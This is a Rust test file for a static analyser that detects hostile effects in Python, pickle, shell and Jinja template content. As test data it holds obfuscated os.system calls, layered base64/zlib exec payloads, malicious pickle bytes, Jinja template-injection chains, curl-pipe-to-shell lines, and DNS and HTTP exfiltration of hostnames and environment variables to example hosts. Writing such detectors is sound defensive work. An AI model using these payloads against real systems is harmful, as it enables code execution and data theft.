use super::*;
use crate::{jinja, python, shell};
use wb_core::{CallStyle, Constant};

/// A little knowledge, enough for these tests.
struct Little;

impl Knowledge for Little {
    fn callable(&self, dotted: &str) -> Option<Callable> {
        use Capability as C;
        let canonical = dotted
            .replace("__builtin__.", "builtins.")
            .replace("posix.", "os.")
            .replace("cloudpickle.cloudpickle.", "cloudpickle.");
        let (capability, argument) = match canonical.as_str() {
            "os.system"
            | "os.popen"
            | "subprocess.Popen"
            | "subprocess.run"
            | "os.execvp"
            | "subprocess.check_output"
            | "os.spawnl" => (C::RunCommand, Some(0)),
            "builtins.exec" | "builtins.eval" | "types.CodeType" => (C::RunCode, Some(0)),
            "pickle.loads" | "marshal.loads" => (C::Deserialize, Some(0)),
            "builtins.getattr"
            | "importlib.import_module"
            | "pkgutil.resolve_name"
            | "builtins.__import__" => (C::Resolve, Some(0)),
            "urllib.request.urlopen" | "socket.socket" | "requests.post" => (C::Network, Some(0)),
            "builtins.open" => (C::ReadFile, Some(0)),
            "os.environ" | "os.getenv" => (C::Environment, Some(0)),
            "atexit.register" | "threading.Thread" => (C::Defer, Some(0)),
            "torch._rebuild_from_type_v2" => (C::CallArgument, Some(0)),
            "base64.b64decode"
            | "zlib.decompress"
            | "codecs.decode"
            | "collections.OrderedDict"
            | "json.dumps"
            | "time.sleep"
            | "os.path.join"
            | "os.uname"
            | "tensorflow.clip_by_value"
            | "numpy.ndarray"
            | "functools.reduce"
            | "operator.attrgetter"
            | "copyreg._reconstructor" => (C::Inert, None),
            _ => return None,
        };
        Some(Callable {
            canonical,
            capability,
            argument,
            keyword: (argument == Some(0) && dotted.starts_with("subprocess"))
                .then(|| "args".to_owned()),
            why: "test".to_owned(),
        })
    }

    fn command(&self, name: &str) -> Option<Callable> {
        let capability = match name {
            "curl" | "wget" | "nslookup" | "dig" | "nc" => Capability::Network,
            "sh" | "bash" | "python3" => Capability::RunCommand,
            "echo" | "id" | "hostname" | "base64" | "env" | "true" => Capability::Inert,
            _ => return None,
        };
        Some(Callable {
            canonical: name.to_owned(),
            capability,
            argument: None,
            keyword: None,
            why: "test".to_owned(),
        })
    }
}

pub(super) fn of(program: &Program) -> Effects {
    analyse(program, &Little, &mut Budget::default())
}

pub(super) fn of_python(source: &str) -> Effects {
    let program = python::lift(source, Trigger::Load, &mut Budget::default()).expect("it parses");
    of(&program)
}

fn line(effect: &Effect) -> String {
    let mut line = format!("{} {}", effect.capability.name(), effect.callable);
    if !effect.called {
        line.push_str(" (not called)");
    }
    if let Some(reached) = &effect.reached_by {
        line.push_str(&format!(" by {reached}"));
    }
    for payload in &effect.payloads {
        line.push_str(&format!(
            " [{}{}: {}]",
            payload.kind.name(),
            payload.layers.iter().map(|layer| format!(" {layer}")).collect::<String>(),
            payload.text.trim()
        ));
    }
    line
}

/// Every effect of Python source as a line, inner effects indented by `>`.
pub(super) fn lines(effects: &[Effect]) -> Vec<String> {
    let mut all = Vec::new();
    for effect in effects {
        all.push(line(effect));
        all.extend(lines(&effect.inner).into_iter().map(|inner| format!("> {inner}")));
    }
    all
}

#[track_caller]
pub(super) fn check(source: &str, expected: &[&str]) {
    assert_eq!(lines(&of_python(source).effects), expected, "{source}");
}

#[test]
fn commands_however_they_are_reached() {
    let id = "[shell: id]";
    for (source, reached) in [
        ("import os\nos.system('id')", ""),
        ("import os as o\no.system('id')", ""),
        ("from os import system as s\ns('id')", ""),
        ("from os import *\nsystem('id')", ""),
        ("import os\nf = os.system\nf('id')", ""),
        ("import os\nf = print\nif 0: f = os.system\nf('id')", ""),
        ("__import__('os').system('id')", " by __import__('os').system"),
        (
            "getattr(__import__('os'), 'sys' + 'tem')('id')",
            " by getattr(__import__('os'), 'system')",
        ),
        (
            "import importlib\nimportlib.import_module('os').system('id')",
            " by importlib.import_module('os').system",
        ),
        (
            "import pkgutil\npkgutil.resolve_name('os:system')('id')",
            " by pkgutil.resolve_name('os:system')",
        ),
        (
            "import os, operator\noperator.attrgetter('system')(os)('id')",
            " by operator.attrgetter('system')(os)",
        ),
        (
            "import os, operator\noperator.methodcaller('system', 'id')(os)",
            " by operator.methodcaller('system', 'id')",
        ),
        ("import os\nlist(map(os.system, ['id']))", " by map(os.system, ['id'])"),
        ("import sys\nsys.modules['os'].system('id')", " by sys.modules['os'].system"),
        ("import os\nos.__dict__['system']('id')", " by os.__dict__['system']"),
        ("import os\nvars(os)['system']('id')", " by vars(os)['system']"),
        (
            "import os\ngetattr(os, ''.join([chr(c) for c in [115,121,115,116,101,109]]))('id')",
            " by getattr(os, 'system')",
        ),
        (
            "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
            " by getattr(os, 'system')",
        ),
        ("import os\ngetattr(os, 'metsys'[::-1])('id')", " by getattr(os, 'system')"),
        ("import os\nos.system(*['id'])", ""),
        ("import random\nrandom._os.system('id')", " by random._os.system"),
        ("import os\ndef run(c):\n  os.system(c)\nrun('id')", ""),
        ("import os\n(lambda c: os.system(c))('id')", ""),
        ("import os\nfor c in ['id']:\n  os.system(c)", ""),
        (
            "import os\nwith open('x') as f:\n  try:\n    pass\n  finally:\n    os.system(f'{\"i\"}d')",
            "",
        ),
    ] {
        let all = lines(&of_python(source).effects);
        let expected = format!("run-command os.system{reached} {id}");
        assert!(all.contains(&expected), "{source}\n{all:#?}\n{expected}");
    }
}

#[test]
fn python_two_names_are_kept() {
    let mut program = Program::new(Language::Pickle, Trigger::Load, Span::default());
    let mut push = |kind| program.push(Op { span: Span::new(3, 1), number: 7, kind });
    let import = |module: &str, name: &str| OpKind::Import {
        module: module.to_owned(),
        name: name.to_owned(),
    };
    let text = |text: &str| OpKind::Constant(Constant::Text(text.to_owned()));
    let call = |callee, arguments| OpKind::Call {
        callee,
        arguments,
        keywords: Vec::new(),
        style: CallStyle::Call,
    };
    let getattr = push(import("__builtin__", "getattr"));
    let importer = push(import("__builtin__", "__import__"));
    let os = push(text("os"));
    let module = push(call(importer, vec![os]));
    let popen = push(text("popen"));
    let callee = push(call(getattr, vec![module, popen]));
    let command = push(text("nslookup $(hostname).b.hub.example 192.0.2.9"));
    push(call(callee, vec![command]));
    let odd = push(import("evil_pkg", "Loader"));
    push(import("collections", "OrderedDict"));
    push(OpKind::Return { value: odd });
    let effects = of(&program);
    assert_eq!(
        lines(&effects.effects),
        [
            "run-command os.popen by __builtin__.getattr(__builtin__.__import__('os'), 'popen') \
             [shell: nslookup $(hostname).b.hub.example 192.0.2.9]",
            "> network nslookup",
            "import evil_pkg.Loader (not called)",
        ]
    );
    let found: Vec<&str> = effects.effects[0].indicators.iter().map(|one| one.value()).collect();
    assert!(found.contains(&"b.hub.example") && found.contains(&"192.0.2.9"), "{found:?}");
    assert_eq!(
        effects.imports,
        [
            "__builtin__.getattr",
            "__builtin__.__import__",
            "os",
            "evil_pkg.Loader",
            "collections.OrderedDict"
        ]
    );
}

#[test]
fn writing_to_an_imported_object_is_an_effect() {
    for (called, expected) in [(true, 0), (false, 1)] {
        let mut program = Program::new(Language::Pickle, Trigger::Load, Span::default());
        let mut push = |kind| program.push(Op { span: Span::default(), number: 0, kind });
        let mut of_value =
            push(OpKind::Import { module: "numpy".to_owned(), name: "ndarray".to_owned() });
        if called {
            of_value = push(OpKind::Call {
                callee: of_value,
                arguments: Vec::new(),
                keywords: Vec::new(),
                style: CallStyle::New,
            });
        }
        let state = push(OpKind::Constant(Constant::None));
        push(OpKind::Build { of: of_value, state });
        assert_eq!(of(&program).effects.len(), expected);
    }
}

#[test]
fn layers_of_code() {
    // zlib of "import os; os.system('id')" in base64.
    let inner = "eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=";
    let source = format!("import base64,zlib;exec(zlib.decompress(base64.b64decode(b'{inner}')))");
    let effects = of_python(&source).effects;
    assert_eq!(effects.len(), 1, "{:#?}", lines(&effects));
    assert_eq!(effects[0].callable, "builtins.exec");
    assert_eq!(effects[0].payloads[0].layers, ["base64", "zlib"]);
    assert_eq!(effects[0].payloads[0].text, "import os; os.system('id')");
    assert_eq!(lines(&effects[0].inner), ["run-command os.system [shell: id]"]);
    let outer = format!("exec({source:?})");
    let effects = of_python(&outer).effects;
    let layers: Vec<_> = effects[0].payloads.iter().map(|one| one.layers.clone()).collect();
    assert_eq!(layers, [vec![], vec!["base64".to_owned(), "zlib".to_owned()], vec![]]);
}

#[test]
fn words_and_pieces_of_commands() {
    check(
        "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s h.example|sh'])",
        &[
            "run-command subprocess.Popen [shell: sh -c 'curl -s h.example|sh']",
            "> network curl",
            "> run-command sh",
            "> run-command sh",
        ],
    );
    let effects = of_python("import os\nos.system('dig ' + os.uname().nodename + '.hub.example')");
    assert_eq!(
        lines(&effects.effects),
        ["run-command os.system [shell: dig {os.uname().nodename}.hub.example]", "> network dig"]
    );
    assert!(effects.effects[0].indicators.iter().any(|one| one.value() == "hub.example"));
    check(
        "import os\nos.execvp('sh', ['sh', '-c', 'id'])",
        &["run-command os.execvp [shell: sh -c id]", "> run-command sh"],
    );
}

#[test]
fn other_capabilities() {
    check(
        "import os, json, urllib.request as u\n\
         u.urlopen('https://192.0.2.7/x', data=json.dumps(dict(os.environ)).encode())",
        &["environment os.environ", "network urllib.request.urlopen [url: https://192.0.2.7/x]"],
    );
    check("import os\nx = os.environ['HF_TOKEN']", &["environment os.environ"]);
    check("open('/tmp/x', 'w').write('a')", &["write-file builtins.open"]);
    check("open('/etc/passwd').read()", &["read-file builtins.open"]);
    check(
        "import atexit, os\natexit.register(os.system, 'id')",
        &[
            "defer atexit.register [shell: id]",
            "> run-command os.system by atexit.register(os.system, 'id') [shell: id]",
        ],
    );
    check(
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
        &[
            "defer threading.Thread [shell: id]",
            "> run-command os.system by threading.Thread(target=os.system, args=('id',)) [shell: id]",
        ],
    );
    check(
        "import functools, os\nf = functools.partial(os.system, 'id')",
        &["run-command os.system (not called) by functools.partial(os.system, 'id') [shell: id]"],
    );
    let effects = of_python("import socket\ns = socket.socket()\ns.connect(('192.0.2.5', 4444))");
    assert_eq!(lines(&effects.effects), ["network socket.socket"]);
    assert_eq!(effects.effects[0].indicators[0].value(), "192.0.2.5");
    check(
        "import evil\nevil.run('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=')",
        &[
            "unknown evil.run [python base64: import os; os.system('id')] [shell: id]",
            "> run-command os.system [shell: id]",
        ],
    );
    check("import mod\nname = input()\ngetattr(mod, name)('x')", &["resolve builtins.getattr"]);
    check("import os\nhandlers = {'x': os.system}", &["run-command os.system (not called)"]);
}

#[test]
fn functions_that_nothing_calls_come_later() {
    let effects =
        of_python("import os\ndef forward(self, x):\n  os.system('id')\n  return x").effects;
    assert_eq!(effects.len(), 1);
    assert_eq!(effects[0].trigger, Trigger::Inference);
    let effects = of_python("import os\ndef go():\n  os.system('id')\ngo()").effects;
    assert_eq!((effects.len(), effects[0].trigger), (1, Trigger::Load));
    // A decorator that wraps does not call; what it wraps runs with the wrapper.
    let wrapped = "import contextlib, functools, os\n@contextlib.contextmanager\n@functools.lru_cache\ndef go():\n  os.system('id')\n";
    for (source, trigger) in [("", Trigger::Inference), ("go()", Trigger::Load)] {
        let effects = of_python(&format!("{wrapped}{source}")).effects;
        assert_eq!((effects.len(), effects[0].trigger), (1, trigger), "{source}");
    }
}

#[test]
fn innocent_code_has_no_effects() {
    for source in [
        "import tensorflow as tf\nf = lambda x: tf.clip_by_value(x, 0.0, 1.0)",
        "f = lambda x: tf.clip_by_value(x, 0.0, 1.0)",
        "f = lambda x: x * 2 + x.reshape((1, -1)).mean(axis=0)",
        "import collections, os\nd = collections.OrderedDict()\nd['a'] = os.path.join('a', 'b')",
        "class A:\n  def f(self):\n    return self.__class__.__name__ + getattr(self, 'x')",
        "def g(config, name):\n  return getattr(config, name, None)",
        "print(len([1, 2]), sorted('a'), isinstance(1, int))",
        "message = 'never call os.system(x) or exec(y)'",
        "for cls in Base.__subclasses__():\n  print(cls)",
    ] {
        check(source, &[]);
    }
}

#[test]
fn attribute_walks() {
    let all = lines(
        &of_python(
            "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')",
        )
        .effects,
    );
    assert_eq!(all.len(), 1, "{all:#?}");
    assert!(all[0].starts_with("run-command os.system by ") && all[0].ends_with("[shell: id]"));
    let all =
        lines(&of_python("''.__class__.__mro__[1].__subclasses__()[99]('id', shell=True)").effects);
    assert!(all.len() == 1 && all[0].starts_with("attribute-walk "), "{all:#?}");
}

#[test]
fn shell_pipes_into_interpreters() {
    let program = shell::lift(
        "echo aWQgPiAvdG1wL3g= | base64 -d | sh",
        Trigger::Load,
        &mut Budget::default(),
    );
    assert_eq!(
        lines(&of(&program).effects),
        ["run-command sh [shell base64: id > /tmp/x]", "> write-file >"]
    );
    let program = shell::lift(
        "python3 -c 'import os; os.system(\"id\")'",
        Trigger::Load,
        &mut Budget::default(),
    );
    assert_eq!(
        lines(&of(&program).effects),
        [
            "run-command python3 [python: import os; os.system(\"id\")] [shell: id]",
            "> run-command os.system [shell: id]"
        ]
    );
}

fn of_template(template: &str) -> Vec<String> {
    lines(&of(&jinja::lift(template, &mut Budget::default())).effects)
}

#[test]
fn templates_that_reach_out() {
    let globals = "cycler.__init__.__globals__";
    for template in [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ cycler['__init__']['__glo' ~ 'bals__']['os']['popen']('id') }}",
        "{{ cycler|attr('__init__')|attr('__globals__')|attr('get')('os')|attr('popen')('id') }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('id') }}",
        "{% set o = joiner.__init__.__globals__.os %}{% for c in ['id'] %}{{ o.popen(c) }}{% endfor %}",
        "{% set g = ['__glo','bals__']|join %}{{ lipsum[g].os.popen('id') }}",
        "{% macro f(c) %}{{ lipsum.__globals__.os.popen(c) }}{% endmacro %}{{ f('id') }}",
    ] {
        let all = of_template(template);
        assert!(
            all.len() == 1
                && all[0].starts_with("run-command os.popen by ")
                && all[0].ends_with("[shell: id]"),
            "{template} {all:#?}"
        );
    }
    assert_eq!(
        of_template("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        [format!("run-command os.popen by {globals}.os.popen [shell: id]")]
    );
    assert_eq!(
        of_template("{{ x.__class__.__base__ }}"),
        ["attribute-walk x.__class__.__base__ (not called)"]
    );
    assert_eq!(
        of_template("{{ x|attr(request.args.a) }}").len(),
        1,
        "a computed attribute is a walk"
    );
    let walk = of_template("{{ ().__class__.__base__.__subclasses__()[59]('id', shell=True) }}");
    assert!(walk.len() == 1 && walk[0].starts_with("attribute-walk "), "{walk:?}");
}

#[test]
fn ordinary_templates_have_no_effects() {
    for template in [
        "{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "{{ bos_token }}{% if messages[0].role == 'system' %}{{ messages[0].content | trim }}{% endif %}",
        "{% macro render(t) %}{{ t.name ~ ', '.join(t.args) }}{% endmacro %}{{ render(tools[0]) }}",
        "{{ raise_exception('roles must alternate') }}{{ strftime_now('%d %b %Y') }}",
        "{% set ns = namespace(found=false) %}{% set ns.found = true %}{{ tools | tojson(indent=2) }}",
        "{{ '%s: %s'|format(a, b) }}{{ messages|selectattr('role', 'equalto', 'user')|list|length }}",
        "{% generation %}{{ message.content.split('</think>')[-1].lstrip('\n') }}{% endgeneration %}",
        "{{ loop.index0 }}{{ range(3)|list }}{{ x.items()|first }}{{ cycler('a', 'b').next() }}",
        "{{ messages[1:]|map(attribute='role')|join(', ') }}{{ text[::-1] }}",
    ] {
        assert_eq!(of_template(template), Vec::<String>::new(), "{template}");
    }
}

#[test]
fn hostile_programs_end() {
    of_python("def f():\n  return f()\nf()");
    of_python("f = lambda g: g(g)\nf(f)");
    of_python(&format!("x = 'a'\n{}", "x = x + x\n".repeat(60)));
    for nested in [
        "x = [x]",
        "x = x.a",
        "x = x.a()",
        "x = f(x)",
        "x = x or [x]",
        "x = (x, x)",
        "x = f'{x}b'",
        "x = functools.partial(x, x)",
        "x = {'a': x}",
        "x = x['a']",
        "x = lambda: x",
    ] {
        of_python(&format!("import functools\nx = y\n{}", format!("{nested}\n").repeat(20_000)));
        let body = format!("  {nested}\n").repeat(20_000);
        of_python(&format!("import functools\ndef g(x):\n{body}"));
    }
    let limits = wb_core::Limits { steps: 2000, ..wb_core::Limits::default() };
    let source = "import os\n".repeat(500);
    let program = python::lift(&source, Trigger::Load, &mut Budget::default()).expect("it parses");
    assert_eq!(
        analyse(&program, &Little, &mut Budget::new(wb_core::Limits { steps: 10, ..limits }))
            .gaps
            .len(),
        1
    );
}

#[test]
fn serialised_arguments_are_read() {
    for (data, layers) in [
        (r#"b"cos\nsystem\n(S'id'\ntR.""#, &[][..]),
        ("base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu')", &["base64"][..]),
    ] {
        let effects = of_python(&format!("import pickle, base64\npickle.loads({data})")).effects;
        let outer = effects.first().expect("the outer effect");
        assert_eq!(outer.callable, "pickle.loads");
        assert_eq!(
            (outer.payloads[0].kind.name(), &outer.payloads[0].layers[..]),
            ("pickle", &layers.iter().map(|one| (*one).to_owned()).collect::<Vec<_>>()[..])
        );
        assert_eq!(lines(&outer.inner), ["run-command os.system [shell: id]"]);
    }
}

/// The output of a Python program, where Python is installed.
fn python3(program: &str) -> Option<String> {
    let output = std::process::Command::new("python3").args(["-c", program]).output().ok()?;
    output.status.success().then(|| String::from_utf8(output.stdout).ok())?
}

#[test]
fn code_objects_are_lifted_when_and_where_they_run() {
    let Some(data) = python3(
        "import marshal\nprint(repr(marshal.dumps(compile('import os\\nos.system(\"id\")', 'x', 'exec'))))",
    ) else {
        return;
    };
    for (run, trigger, callable) in [
        ("exec(marshal.loads(d))", Trigger::Load, "builtins.exec"),
        ("types.FunctionType(marshal.loads(d), {})()", Trigger::Load, "marshal.loads"),
        ("f = types.FunctionType(marshal.loads(d), {})", Trigger::Inference, "marshal.loads"),
    ] {
        let effects = of_python(&format!("import marshal, types\nd = {data}\n{run}")).effects;
        let outer = effects.iter().find(|one| one.callable == callable).expect("the outer effect");
        let inner = outer.inner.first().expect("what the code does");
        assert_eq!((inner.callable.as_str(), inner.trigger), ("os.system", trigger), "{run}");
        assert!(outer.payloads.iter().any(|one| one.layers == ["marshal"]), "{run}");
    }
}

#[test]
fn damaged_programs_end() {
    let seeds = [
        "import os, base64\nexec(base64.b64decode(b'aWQ=' + x).decode()[::-1] % (1, 'a'))",
        "f = lambda a, *b, **c: [getattr(d, e)(**c) for d in a if d]\nclass A(B, m=C):\n  @x\n  def g(self): pass",
        "{{ cycler.__init__['__glo' ~ 'bals__'].os.popen('id')|attr(x)[1:2] if a is b else {'c': 1} }}{% set a, b = 1 %}",
        "A=1 curl -d \"a=$(id|base64)\" 'http://h.example/x?y=1' 2>&1 <<EOF | sh -c 'id; `x`'\nEOF\n",
    ];
    let mut state = 1_u64;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        usize::try_from(state >> 40).expect("24 bits")
    };
    for _ in 0..150 {
        for seed in seeds {
            let mut bytes = seed.as_bytes().to_vec();
            for _ in 0..=next() % 6 {
                let at = next() % bytes.len();
                match next() % 3 {
                    0 => bytes[at] = u8::try_from(next() % 128).expect("ascii"),
                    1 => bytes.truncate(at.max(1)),
                    _ => bytes.extend_from_within(at..),
                }
            }
            let text = String::from_utf8_lossy(&bytes).into_owned();
            let mut budget = Budget::default();
            of(&jinja::lift(&text, &mut budget));
            of(&shell::lift(&text, Trigger::Load, &mut budget));
            if let Some(program) = python::lift(&text, Trigger::Load, &mut budget) {
                of(&program);
            }
            crate::indicators::extract(&text);
            crate::indicators::requests(&text);
            crate::peel::peel(&bytes, &mut budget, &mut Vec::new());
        }
    }
}
